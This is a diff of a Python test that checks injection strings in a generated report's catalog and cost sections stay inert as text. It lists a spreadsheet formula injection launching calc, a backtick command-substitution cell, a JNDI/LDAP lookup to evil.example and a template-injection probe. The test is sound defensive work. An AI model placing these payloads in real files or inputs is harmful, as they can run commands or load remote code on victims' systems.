@@ -862,7 +862,9 @@ def test_catalog_cells_are_never_run(
         assert cell in visible, cell  # verbatim, as text: no template filled in ({{7*7}} is not 49)
     assert html.escape(CATALOG_INJECTIONS["source"]) in page
     cost_md = md_sections(md)["cost"]
-    assert r"=cmd\|' /C calc'!A0" in cost_md and r"\`touch PWNED\`" in cost_md
+    # A backticked cell is a code span (inert: Markdown renders its inside as it is, no HTML, no link), or
+    # escaped where its inside could act.
+    assert r"=cmd\|' /C calc'!A0" in cost_md and "`touch PWNED`" in cost_md
     assert r"\${jndi:ldap://evil.example/a}" in cost_md and "{{7\\*7}}" in cost_md
     assert_inert_markdown(md, sorted(p.name for p in out.glob("*.png")))
 
